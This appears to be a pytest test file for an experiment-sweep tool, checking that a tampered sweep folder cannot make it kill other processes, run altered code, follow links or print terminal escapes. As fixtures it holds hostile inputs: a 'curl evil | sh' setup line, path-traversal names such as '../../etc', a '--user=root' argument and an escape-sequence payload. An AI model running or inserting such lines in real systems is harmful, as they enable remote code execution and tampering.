"""A sweep's folder that a stranger made: nothing that it names is ended, run, or written to the terminal unescaped."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from ragaf_exp.config.command_line import guarded
from ragaf_exp.config.schema import Cluster
from ragaf_exp.core.errors import UserError
from ragaf_exp.core.printable import printable
from ragaf_exp.report.svg import chart
from ragaf_exp.runs.owner import Owner
from ragaf_exp.sweep import local, slurm, snapshot, submit
from ragaf_exp.sweep.ledger import Job, Record, read_job
from ragaf_exp.sweep.member import config_of
from ragaf_exp.sweep.members import Member, compose_members
from ragaf_exp.sweep.monitor import load, show
from ragaf_exp.sweep.reading import last_line, metrics_of
from ragaf_exp.sweep.report import write_sweep_report

ESCAPE = "\x1b[2J\x9b31m\u202egpj\ud800\r\n"


@pytest.fixture
def members(tmp_path) -> list[Member]:
    return compose_members([f"runs={tmp_path / 'runs'}", "name=theirs", "seed=0,1"])


@pytest.fixture
def job(members, tmp_path) -> Job:
    """Submitted on this machine, by its record."""
    record = Record(members[0].home)
    with record.locked():
        record.add(members)
        return record.new_job("local", [member.hash for member in members], snapshot.take(tmp_path / "runs"))


@pytest.fixture
def victim() -> Iterator[subprocess.Popen]:
    """A process of the user's that is not the sweep's."""
    process = subprocess.Popen([sys.executable, "-c", "input()"], stdin=subprocess.PIPE)
    yield process
    process.kill()
    process.wait()
    process.stdin.close()


def state(record: Record, job: Job, member: str, owner: dict, supervisor: dict | None = None) -> None:
    content = {"supervisor": supervisor or owner, "ended": {}, "running": {member: owner}}
    local.state_file(record, job).write_text(json.dumps(content))


@pytest.mark.parametrize("change", [
    {}, {"started": 0}, {"started": 1}, {"boot": ""}, {"boot": "another"}, {"host": "another"}, {"pid": 0}, {"pid": -1},
    {"pid": True}, {"pid": "1"}, {"pid": 2**70}, {"pid": 1}, {"started": "x"}, {"boot": None},
], ids=str)  # fmt: skip
def test_cancel_ends_no_process_that_a_record_names(change, job, members, victim):
    """It ends none even with the right start and boot, which other users of the machine can read."""
    record = Record(members[0].home)
    state(record, job, members[0].hash, Owner.of(victim.pid).as_dict() | change)
    try:
        submit.cancel(record)
    except UserError as error:
        assert "not certain to be this sweep's" in str(error)
    assert victim.poll() is None


def test_old_records_and_nonsense_name_no_process(job, members, victim):
    record = Record(members[0].home)
    old = {"host": os.uname().nodename, "pid": victim.pid, "started": 0, "running": {members[0].hash: [victim.pid, 0]}}
    for content in (old, [], {"supervisor": [], "running": [], "ended": 3}, {"running": {members[0].hash: None}}):
        local.state_file(record, job).write_text(json.dumps(content))
        submit.cancel(record)
        assert victim.poll() is None


def test_a_process_is_ended_where_all_of_it_is_right(tmp_path, victim):
    record = tmp_path / "1.json"
    ours = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(99)", str(record)])
    owner = Owner.of(ours.pid)
    (tmp_path / "link").symlink_to(tmp_path)
    assert not replace(owner, started=owner.started + 1).terminate(record)
    assert not owner.terminate(tmp_path / "2.json") and not Owner.of(victim.pid).terminate(record)
    while not Path(f"/proc/{ours.pid}/cmdline").read_bytes().endswith(b"1.json\0"):
        time.sleep(0.01)  # until the program has started
    assert owner.terminate(tmp_path / "link" / "1.json") and ours.wait() == -15
    assert not owner.terminate(record)


@pytest.mark.parametrize("content", [
    {"job": "--user=root"}, {"job": 7}, {"members": ["../../x"]}, {"members": 3}, {"launcher": "sh"}, {"number": 2},
    {"snapshot": None}, {"processes": 0}, {"submitted": "x"}, {"more": 1},
])  # fmt: skip
def test_a_job_that_no_submission_wrote(content, job, members):
    record = Record(members[0].home)
    path = record.job_file(job)
    path.write_text(json.dumps(json.loads(path.read_text()) | content))
    with pytest.raises(UserError, match="1.json: damaged"):
        read_job(path)


def test_slurm_ends_only_jobs_whose_script_is_the_sweeps(job, members, monkeypatch):
    record, line = Record(members[0].home), "JobId=7 JobName=x Command={} WorkDir=/"
    job.job, ended = "7", []
    answers = {"/home/me/my job.sh": True, str(record.jobs_folder / "1.sh"): False}
    for script, refused in answers.items():
        out = line.format(script)
        monkeypatch.setattr(slurm.slurm_commands, "run", lambda *c, out=out: subprocess.CompletedProcess(c, 0, out, ""))
        try:
            slurm.check_ours(record, [job])
        except UserError as error:
            ended.append(script)
            assert "runs /home/me/my job.sh, not this sweep" in str(error)
        assert (script in ended) == refused


def test_only_a_snapshot_with_its_digest_is_run(tmp_path):
    runs = tmp_path / "runs"
    path = snapshot.take(runs)
    assert snapshot.find(runs, f"/elsewhere/{path.name}") == path  # a record's folder is not followed, its name is
    assert snapshot.find(runs, "/tmp/evil") is None and snapshot.find(runs, "0" * 16) is None
    cache = path / "ragaf_exp" / "__pycache__"
    cache.mkdir()
    (cache / "errors.cpython-311.pyc").write_bytes(b"evil")
    assert snapshot.find(runs, str(path)) == path and not cache.exists()
    empty = path / "ragaf_exp" / "config" / "__init__.py"
    assert empty.read_bytes() == b""
    (tmp_path / "evil.py").write_text("")
    for change in (lambda: (path / "torch.py").write_text(""), lambda: (path / "torch.py").unlink() or empty.unlink(),
                   lambda: empty.symlink_to(tmp_path / "evil.py")):  # fmt: skip
        change()
        with pytest.raises(UserError, match="changed since it was taken.*code=now"):
            snapshot.find(runs, str(path))


def test_retry_runs_the_snapshot_of_this_folder(job, members, tmp_path, monkeypatch):
    record, queued = Record(members[0].home), []
    evil = tmp_path / "evil"
    evil.mkdir()
    record.write(replace(job, snapshot=str(evil)))
    monkeypatch.setattr(local, "submit", lambda record, job: queued.append(job))
    submit.retry(record, "local", 1, fresh=False)
    assert [Path(job.snapshot).parent for job in queued] == [tmp_path / "runs" / ".code"]


def test_retry_runs_recorded_shell_lines_only_where_they_are_confirmed(job, members, monkeypatch):
    record, queued = Record(members[0].home), []
    for member in members:
        path = record.configs / f"{member.hash}.yaml"
        path.write_text(path.read_text().replace("setup: []", "setup:\n  - curl evil | sh"))
    assert submit._request(path) == Cluster(setup=["curl evil | sh"])
    monkeypatch.setattr(slurm, "submit", lambda record, job, request: queued.append(request))
    monkeypatch.setattr(slurm, "array_size", lambda: 9)
    with pytest.raises(UserError, match="would run curl evil | sh, .*setup=recorded"):
        submit.retry(record, "slurm", 1, fresh=False)
    assert not queued
    submit.retry(record, "slurm", 1, fresh=False, recorded=True)
    assert [request.setup for request in queued] == [["curl evil | sh"]]
    path.write_text("cluster: {minutes: [1]}")
    with pytest.raises(UserError, match="damaged"):
        submit._request(path)


def test_a_members_config_is_the_one_that_was_submitted(job, members, tmp_path):
    record, member = Record(members[0].home), members[0].hash
    assert config_of(record, member).runs == str(tmp_path / "runs")
    path = record.configs / f"{member}.yaml"
    path.write_text(path.read_text().replace("seed: 0", "seed: 7"))
    with pytest.raises(UserError, match="not the config that was submitted"):
        config_of(record, member)
    path.write_text(path.read_text().replace("seed: 7", "seed: 0").replace(f"runs: {tmp_path}", "runs: /home/me"))
    assert config_of(record, member).runs == str(tmp_path / "runs")


def test_a_records_texts_and_values_reach_no_terminal_and_break_nothing(members, job, tmp_path, capsys, monkeypatch):
    record = Record(members[0].home)
    content = json.loads((record.folder / "members.json").read_text())
    content["members"][members[0].hash] = {"seed": ESCAPE, ESCAPE: "1", "n": 3}
    (record.folder / "members.json").write_text(json.dumps(content))
    for member in members:
        (record.home / member.hash).mkdir()
    status = {"state": "failed", "error": ESCAPE, "step": "x", "steps": [], "rate": float("nan"), "stage": {},
              "updated": 10**400, "pid": True, "host": 3}  # fmt: skip
    (record.home / members[0].hash / "status.json").write_text(json.dumps(status))
    (record.home / members[1].hash / "status.json").write_text('{"state": ' + "[" * 100_000)
    entries = {"$\\x$": {"value": 1}, "fid": {"value": "x"}, "lpips": [], "sketch_f1": {"value": 1, "ci95": ["a", {}]}}
    (record.home / members[0].hash / "metrics.json").write_text(json.dumps({"metrics": entries}))
    (record.logs / "1_1.log").write_text("before\n" + ESCAPE.replace("\ud800", ""))
    monkeypatch.setenv("COLUMNS", "300")
    table = load(record.home)
    show(table)
    write_sweep_report(record.home)
    shown = capsys.readouterr().out + table.as_html() + (record.home / "sweep.html").read_text()
    assert "\\x1b[2J" in shown and not set(ESCAPE) - set("[2J31mgpj\n") & set(shown)
    assert json.loads(json.dumps(table.as_json()))["members"][0]["rate"] is None
    assert metrics_of(record.home / members[0].hash)["sketch_f1"] == {"value": 1.0, "ci95": None}


def test_members_of_odd_names_are_refused(job, members):
    record = Record(members[0].home)
    (record.folder / "members.json").write_text(json.dumps({"schema": 1, "members": {"../../etc": {}}}))
    with pytest.raises(UserError, match="12 hex digits"):
        load(record.home)


@pytest.mark.parametrize("name", [".lock", "jobs", "logs"])
def test_no_link_or_pipe_of_a_record_is_written_to(name, job, members, tmp_path):
    record, mine = Record(members[0].home), tmp_path / "mine"
    (record.folder / name).rename(tmp_path / "moved")
    mine.mkdir() if name != ".lock" else mine.write_text("mine")
    (record.folder / name).symlink_to(mine)
    with pytest.raises(UserError, match="link"):
        submit.cancel(record)
    if name == ".lock":
        (record.folder / name).unlink()
        os.mkfifo(record.folder / name)
        with pytest.raises(UserError, match="not a file"):
            submit.cancel(record)
    assert mine.is_dir() or mine.read_text() == "mine"


def test_a_log_or_state_that_is_no_file_is_not_read(job, members, tmp_path):
    record = Record(members[0].home)
    (tmp_path / "secret").write_text("secret\n")
    record.log(job, 0).symlink_to(tmp_path / "secret")
    os.mkfifo(record.log(job, 1))
    assert last_line(record.log(job, 0)) == last_line(record.log(job, 1)) == ""
    (record.home / members[0].hash).mkdir()
    os.mkfifo(record.home / members[0].hash / "status.json")
    assert [row.state for row in load(record.home).rows] == ["lost", "lost"]


def test_an_error_is_one_line_that_a_terminal_can_show(capsys):
    def refused() -> None:
        raise UserError(f"x: {ESCAPE}")

    with pytest.raises(SystemExit):
        guarded(refused)
    assert capsys.readouterr().err == "error: x: \\x1b[2J\\x9b31m\\u202egpj\\ud800\\r\\n\n"
    assert printable("größe 写真 🙂 \u00a0 it's") == "größe 写真 🙂 \u00a0 it's"


@pytest.mark.parametrize("name", ["$\\x$", "$", "$$", "a_$^{", "\\frac{"])
def test_a_name_that_is_no_formula_does_not_break_a_page(name):
    def draw(axes) -> None:
        axes.plot([0, 1], [0, 1], label=name)
        axes.set_xlabel(name)
        axes.set_xticks([0, 1], [name, name])
        axes.legend()

    assert name in chart("x", name, draw).replace("&lt;", "<")
